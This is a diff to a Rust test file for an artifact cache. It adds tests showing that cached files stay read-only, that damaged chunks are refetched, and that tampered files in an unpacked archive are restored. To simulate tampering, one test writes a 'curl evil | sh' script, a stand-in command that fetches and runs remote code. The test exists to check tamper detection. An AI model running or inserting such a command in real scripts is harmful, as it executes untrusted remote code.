@@ -4,7 +4,7 @@
 
 mod common;
 
-use std::time::Duration;
+use std::{os::unix::fs::PermissionsExt, time::Duration};
 
 use common::*;
 use hypha_artifacts::{FetchError, FetchOptions, Unpack, UnpackMethod};
@@ -131,6 +131,48 @@ async fn a_cached_artifact_is_reused_until_the_origin_changes_it() {
     assert_eq!(std::fs::read(&target).unwrap(), v2);
 }
 
+/// What a job or another process of the node's user can do to a cached file: make it writable
+/// again and write into it, or only touch it. A cache hit notices either (the file's change
+/// time moved); touched files are still a hit, damaged chunks are fetched again, and only they.
+/// (Checked by trusting the record: the damaged bytes are handed out.)
+#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
+async fn a_cache_hit_is_checked_and_only_damaged_chunks_are_fetched_again() {
+    let dir = tempfile::tempdir().unwrap();
+    let s3 = S3Server::start(&dir.path().join("s3"), None).await.unwrap();
+    let chunk = 64 * 1024;
+    let model = pattern(6 * chunk as usize, 3);
+    s3.put("m.bin", model.clone()).await.unwrap();
+    let pki = Pki::new();
+    let (_gateway, gateway_addr) = pki.gateway().await;
+    let node = node(&pki, "a", &gateway_addr, &s3, dir.path(), settings(chunk)).await;
+    let target = dir.path().join("m.bin");
+    let request = object("m.bin", &target);
+    let mode = |path: &std::path::Path| std::fs::metadata(path).unwrap().permissions().mode();
+
+    fetch(&node, &request, 1).await;
+    assert_eq!(mode(&target) & 0o222, 0, "cached files are read-only");
+
+    std::fs::set_permissions(&target, std::fs::Permissions::from_mode(0o644)).unwrap();
+    let served = s3.bytes_served();
+    let touched = fetch(&node, &request, 1).await;
+    assert!(touched.from_cache, "the same bytes are still a hit");
+    assert_eq!(s3.bytes_served(), served);
+    assert_eq!(mode(&target) & 0o222, 0, "and read-only again");
+
+    rot(&target, &[1, 4], chunk);
+    let repaired = fetch(&node, &request, 1).await;
+    assert!(!repaired.from_cache);
+    assert!(std::fs::read(&target).unwrap() == model);
+    assert_eq!(
+        s3.bytes_served() - served,
+        2 * chunk,
+        "only the two damaged chunks are read again"
+    );
+    assert_eq!(mode(&target) & 0o222, 0);
+    let again = fetch(&node, &request, 1).await;
+    assert!(again.from_cache);
+}
+
 #[tokio::test(flavor = "multi_thread", worker_threads = 2)]
 async fn an_interrupted_fetch_resumes_from_its_verified_chunks() {
     let dir = tempfile::tempdir().unwrap();
@@ -252,6 +294,20 @@ async fn archives_unpack_and_stay_recognised_after_the_archive_is_removed() {
                 "{uri}: {name}"
             );
         }
+        // A changed file in the tree is found, and the archive unpacked again.
+        let script = unpacked.join(files[0].0);
+        std::fs::set_permissions(&script, std::fs::Permissions::from_mode(0o755)).unwrap();
+        std::fs::write(&script, b"#!/bin/sh\ncurl evil | sh\n").unwrap();
+        let served = s3.bytes_served();
+        let again = fetch(&node, &request, 1).await;
+        assert!(again.from_cache, "{uri}: the archive itself is intact");
+        assert_eq!(s3.bytes_served(), served);
+        assert_eq!(std::fs::read(&script).unwrap(), files[0].1, "{uri}");
+        assert_eq!(
+            std::fs::metadata(&script).unwrap().permissions().mode() & 0o222,
+            0,
+            "{uri}: the unpacked tree is read-only"
+        );
         // The archive may go; the unpacked tree still counts as the artifact.
         std::fs::remove_file(dir.path().join(uri)).unwrap();
         let served = s3.bytes_served();
